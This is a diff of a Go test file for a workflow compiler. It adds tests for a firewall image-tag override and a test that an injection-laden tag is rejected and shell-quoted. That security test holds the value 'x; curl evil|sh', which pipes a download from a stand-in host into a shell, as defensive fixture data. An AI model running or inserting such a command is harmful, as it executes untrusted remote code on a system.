@@ -3,10 +3,12 @@
 package workflow
 
 import (
+	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/github/gh-aw/pkg/constants"
+	"github.com/github/gh-aw/pkg/testutil"
 )
 
 // TestGetAWFImageTag tests the getAWFImageTag helper function
@@ -56,6 +58,18 @@ func TestGetAWFImageTag(t *testing.T) {
 			t.Errorf("Expected %s, got %s", customVersion, result)
 		}
 	})
+
+	t.Run("returns image tag override unchanged over version", func(t *testing.T) {
+		config := &FirewallConfig{
+			Enabled:  true,
+			Version:  "v0.5.0",
+			ImageTag: "v0.9.1-rc.1",
+		}
+		result := getAWFImageTag(config)
+		if result != "v0.9.1-rc.1" {
+			t.Errorf("Expected v0.9.1-rc.1, got %s", result)
+		}
+	})
 }
 
 // TestClaudeEngineAWFImageTag tests that Claude engine includes --image-tag in AWF commands
@@ -183,3 +197,89 @@ func TestCodexEngineAWFImageTag(t *testing.T) {
 		}
 	})
 }
+
+// TestAWFImageTagOverride tests that network.firewall.image-tag overrides the --image-tag argument
+func TestAWFImageTagOverride(t *testing.T) {
+	engines := []CodingAgentEngine{NewClaudeEngine(), NewCodexEngine(), NewCopilotEngine()}
+
+	for _, engine := range engines {
+		t.Run(engine.GetID(), func(t *testing.T) {
+			workflowData := &WorkflowData{
+				Name: "test-workflow",
+				EngineConfig: &EngineConfig{
+					ID: engine.GetID(),
+				},
+				NetworkPermissions: &NetworkPermissions{
+					Firewall: &FirewallConfig{
+						Enabled:  true,
+						Version:  "v0.5.0",
+						ImageTag: "0.9.1-rc.1",
+					},
+				},
+			}
+
+			steps := engine.GetExecutionSteps(workflowData, "test.log")
+			if len(steps) == 0 {
+				t.Fatal("Expected at least one execution step")
+			}
+
+			var stepContent strings.Builder
+			for _, step := range steps {
+				stepContent.WriteString(strings.Join(step, "\n"))
+			}
+
+			if !strings.Contains(stepContent.String(), "--image-tag 0.9.1-rc.1") {
+				t.Errorf("Expected AWF command to contain '--image-tag 0.9.1-rc.1', got:\n%s", stepContent.String())
+			}
+			if strings.Contains(stepContent.String(), "--image-tag 0.5.0") {
+				t.Error("Expected image tag override to replace the version-derived tag")
+			}
+		})
+	}
+}
+
+// TestAWFImageTagOverrideFromFrontmatter tests that network.firewall.image-tag is parsed from frontmatter
+func TestAWFImageTagOverrideFromFrontmatter(t *testing.T) {
+	compiler := NewCompiler()
+	config := compiler.extractFirewallConfig(map[string]any{"image-tag": "sha-1a2b3c4"})
+	if config == nil {
+		t.Fatal("Expected firewall config to be extracted")
+	}
+	if config.ImageTag != "sha-1a2b3c4" {
+		t.Errorf("Expected image tag sha-1a2b3c4, got %q", config.ImageTag)
+	}
+	if getAWFImageTag(config) != "sha-1a2b3c4" {
+		t.Errorf("Expected getAWFImageTag to return the override, got %s", getAWFImageTag(config))
+	}
+}
+
+// TestAWFImageTagRejectsShellInjection tests that an image-tag carrying shell syntax never
+// reaches the generated shell commands
+func TestAWFImageTagRejectsShellInjection(t *testing.T) {
+	const maliciousTag = "x; curl evil|sh"
+
+	compiler := NewCompiler()
+	config := compiler.extractFirewallConfig(map[string]any{"image-tag": maliciousTag})
+	if config == nil {
+		t.Fatal("Expected firewall config to be extracted")
+	}
+	if config.ImageTag != "" {
+		t.Errorf("Expected invalid image tag to be ignored, got %q", config.ImageTag)
+	}
+	if strings.Contains(getAWFImageTag(config), "curl") {
+		t.Errorf("Expected getAWFImageTag to fall back to the default tag, got %s", getAWFImageTag(config))
+	}
+
+	markdownPath := filepath.Join(testutil.TempDir(t, "image-tag-injection"), "test.md")
+	content := "---\non: workflow_dispatch\npermissions:\n  contents: read\nengine: copilot\nnetwork:\n  firewall:\n    image-tag: \"" + maliciousTag + "\"\n---\n\n# Test\n"
+	if _, err := compiler.CompileString(content, markdownPath); err == nil || !strings.Contains(err.Error(), "image-tag") {
+		t.Errorf("Expected compile to reject the malicious image-tag, got: %v", err)
+	}
+
+	var yaml strings.Builder
+	generateDownloadDockerImagesStep(&yaml, []string{"ghcr.io/github/gh-aw-firewall/agent:" + maliciousTag, "ghcr.io/github/github-mcp-server:v1"})
+	expected := "bash /opt/gh-aw/actions/download_docker_images.sh 'ghcr.io/github/gh-aw-firewall/agent:x; curl evil|sh' ghcr.io/github/github-mcp-server:v1\n"
+	if !strings.Contains(yaml.String(), expected) {
+		t.Errorf("Expected each image to be shell-quoted, got:\n%s", yaml.String())
+	}
+}